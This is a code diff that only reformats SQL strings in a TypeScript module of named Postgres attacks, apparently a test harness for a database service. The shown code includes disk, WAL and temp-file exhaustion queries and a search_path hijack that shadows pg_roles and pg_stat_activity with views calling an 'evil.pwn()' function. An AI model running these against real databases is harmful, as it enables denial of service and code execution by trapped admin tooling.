@@ -154,20 +154,23 @@ export const ATTACKS: Record<string, (target: Target) => Promise<unknown>> = {
     await statements(
       at,
       'create table if not exists bulk (text text)',
-      `do $$ begin if pg_total_relation_size('bulk') > ${MOST_TABLE_BYTES} then truncate bulk; end if; end $$`,
+      `do $$ begin if pg_total_relation_size('bulk') > ${MOST_TABLE_BYTES} then truncate ` +
+        'bulk; end if; end $$',
       fill,
     );
   },
   WAL: (at) =>
     statements(
       at,
-      "select count(pg_logical_emit_message(false, 'x', repeat('x', 1000000))) from generate_series(1, 32)",
+      "select count(pg_logical_emit_message(false, 'x', repeat('x', 1000000))) " +
+        'from generate_series(1, 32)',
     ),
   'temporary files': (at) =>
     statements(
       at,
       "set work_mem = '64kB'",
-      'select count(*) from (select random() as r from generate_series(1, 1000000) order by r) as x',
+      'select count(*) from (select random() as r ' +
+        'from generate_series(1, 1000000) order by r) as x',
     ),
   memory: (at) =>
     statements(
@@ -186,7 +189,8 @@ export const ATTACKS: Record<string, (target: Target) => Promise<unknown>> = {
     statements(
       at,
       'create schema if not exists evil',
-      "create or replace function evil.pwn() returns text language plpgsql as 'begin perform pg_sleep(1); return current_user; end'",
+      'create or replace function evil.pwn() returns text language plpgsql ' +
+        "as 'begin perform pg_sleep(1); return current_user; end'",
       'create or replace view evil.pg_roles as select evil.pwn()::name as rolname',
       'create or replace view evil.pg_stat_activity as select evil.pwn() as state',
       'alter database tsdb set search_path = evil, pg_catalog',
